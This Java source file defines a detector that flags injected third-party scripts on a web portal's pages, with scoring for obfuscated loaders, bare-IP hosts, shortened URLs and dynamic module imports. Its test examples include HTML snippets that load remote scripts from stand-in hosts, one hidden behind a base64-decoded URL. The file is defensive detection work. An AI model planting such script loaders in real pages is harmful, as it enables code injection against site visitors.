package vn.vonggac.detector;

import jakarta.inject.Singleton;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import vn.vonggac.detect.Example;
import vn.vonggac.detect.Finding;
import vn.vonggac.detect.Observation;
import vn.vonggac.detect.ScriptOutcome;
import vn.vonggac.detect.ScriptOutcome.Means;
import vn.vonggac.detect.ScriptOutcome.Target;
import vn.vonggac.detect.Seen;
import vn.vonggac.detect.Severity;
import vn.vonggac.page.Change;
import vn.vonggac.page.Place;
import vn.vonggac.page.Script;
import vn.vonggac.signature.Topic;

/**
 * A script from a site that the portal has nothing to do with: new since the baseline, loaded by a script that hides
 * where from, from a bare network address, or built as known kits build theirs.
 */
@Singleton
final class InjectedScriptDetector extends StrangerDetector {

    private static final Pattern BARE_ADDRESS = Pattern.compile("\\d{1,3}(\\.\\d{1,3}){3}");
    private static final double NEW = 0.35;
    private static final double HIDDEN = 0.6;
    private static final double BARE = 0.6;
    private static final double MODULE = 0.5;
    private static final double SHORTENED = 0.65;
    private static final double PLAIN = 0.05;

    private final Strangers strangers;

    InjectedScriptDetector(Strangers strangers) {
        super("injected-script", Severity.HIGH, strangers);
        this.strangers = strangers;
    }

    @Override
    Stream<Part> parts(Seen seen) {
        Set<String> fresh = fresh(seen, Change::addedScripts, Script::source);
        Stream<Part> served = seen.content().scripts().stream().filter(script -> !script.source().isEmpty())
                .map(script -> part(script.place(), script.source(),
                        fresh.contains(script.source()) ? NEW : PLAIN));
        return Stream.concat(served, seen.scripts().stream().flatMap(script -> loaded(seen, script)));
    }

    private static Stream<Part> loaded(Seen seen, ScriptOutcome script) {
        return script.targets().stream()
                .filter(target -> target.means() == Means.SCRIPT || target.means() == Means.MODULE)
                .map(target -> part(script.place(), target.url(), alarm(seen, script, target)));
    }

    private static double alarm(Seen seen, ScriptOutcome script, Target target) {
        boolean hides = !script.signs().isEmpty() && !Strangers.plain(seen, script, target.url());
        return hides ? HIDDEN : target.means() == Means.MODULE ? MODULE : PLAIN;
    }

    private static Part part(Place place, String address, double alarm) {
        boolean bare = BARE_ADDRESS.matcher(Addresses.host(address)).matches();
        return new Part(place, address, (1 - alarm) * (bare ? 1 - BARE : 1));
    }

    @Override
    Stream<Finding> more(Observation page, Seen seen) {
        Stream<Finding> shortened = seen.content().scripts().stream()
                .filter(script -> !script.source().isEmpty() && strangers.shortened(script.source()))
                .map(script -> Finding.of(this, Severity.HIGH, SHORTENED, seen.view(), script.place(),
                        script.source(), script.source()).saying("shortened"));
        return Stream.concat(shortened, seen.hits().stream().filter(hit -> hit.topic() == Topic.SCRIPT)
                .map(hit -> Finding.of(this, Severity.HIGH, hit.weight(), seen.view(), hit.place(),
                        hit.quote(), hit.quote())));
    }

    @Override
    public List<Example> examples() {
        String usual = "<title>Tin</title><p>Bài viết</p><script src='/js/site.js'></script>";
        return List.of(
                Example.raises("script-hidden-by-a-script",
                        usual + "<script>var s=document.createElement('script');s.src="
                                + "atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQveC5qcw==');document.head.appendChild(s)</script>"),
                Example.raises("new-script-of-a-strange-host",
                        usual + "<script src='https://cdn.example.net/x.js'></script>").normally(usual),
                Example.raises("script-from-a-bare-address",
                        usual + "<script src='http://203.0.113.9/x.js'></script>"),
                Example.raises("script-behind-a-short-address",
                        usual + "<script src='https://tinyurl.com/ab12cd'></script>"),
                Example.raises("module-of-a-strange-site-in-a-drawing",
                        usual + "<svg><script>import('https://khac.example.click/m.js')</script></svg>"),
                Example.silent("module-of-the-portal",
                        usual + "<script type='module'>import '/js/a.js';import('/js/b.js')</script>"),
                Example.silent("statistics-that-everybody-uses", usual
                        + "<script src='https://www.googletagmanager.com/gtag/js?id=G-1'></script>")
                        .normally(usual));
    }
}
